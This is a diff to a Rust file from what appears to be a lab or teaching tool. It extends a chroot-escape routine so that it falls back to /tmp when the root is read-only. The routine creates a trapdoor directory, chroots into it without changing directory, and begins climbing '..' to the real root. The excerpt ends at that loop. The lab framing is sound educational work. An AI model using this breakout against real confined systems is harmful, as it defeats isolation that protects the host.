@@ -45,21 +45,32 @@ pub fn enter_root(narrator: &Narrator, rootfs: &Path) -> Result<(), LabError> {
 /// make the real `/` the root again, or say which step the kernel refused.
 /// `say` narrates each step (lab-breakout prints it; the probe stays quiet).
 pub fn break_out(say: impl Fn(&str)) -> Result<(), (&'static str, Errno)> {
-    const TRAPDOOR: &str = ".lab-breakout";
-    // 1. A directory inside our root to chroot into.
-    match mkdir(TRAPDOOR, Mode::from_bits_truncate(0o700)) {
-        Ok(()) | Err(Errno::EEXIST) => {}
-        Err(errno) => return Err(("mkdir", errno)),
+    // 1. A directory inside our root to chroot into: here, or in /tmp when
+    //    the root is read-only (any directory below / will do).
+    let mut trapdoor = ".lab-breakout";
+    for candidate in [".lab-breakout", "/tmp/.lab-breakout"] {
+        trapdoor = candidate;
+        match mkdir(candidate, Mode::from_bits_truncate(0o700)) {
+            Ok(()) | Err(Errno::EEXIST) => break,
+            Err(Errno::EROFS | Errno::EACCES) if candidate == ".lab-breakout" => continue,
+            Err(errno) => return Err(("mkdir", errno)),
+        }
     }
-    say("mkdir(\".lab-breakout\")");
+    say(&format!("mkdir({trapdoor:?})"));
     // 2. chroot into it *without* chdir: our working directory is now
     //    outside our root, where the kernel's `..` check never looks.
-    let entered = chroot(TRAPDOOR);
+    let entered = chroot(trapdoor);
     // Whether that worked or not, remove the trapdoor (if we are in it, it
     // is our root but still a name in the old tree): leave nothing behind.
-    let _ = std::fs::remove_dir(TRAPDOOR);
-    entered.map_err(|e| ("chroot(\".lab-breakout\")", e))?;
-    say("chroot(\".lab-breakout\"), no chdir: the working directory is now outside the root");
+    let _ = std::fs::remove_dir(trapdoor);
+    let step = match trapdoor {
+        ".lab-breakout" => "chroot(\".lab-breakout\")",
+        _ => "chroot(\"/tmp/.lab-breakout\")",
+    };
+    entered.map_err(|e| (step, e))?;
+    say(&format!(
+        "chroot({trapdoor:?}), no chdir: the working directory is now outside the root"
+    ));
     // 3. Climb: `..` of the real `/` is `/` itself, so stop when `.` and
     //    `..` are the same directory.
     loop {
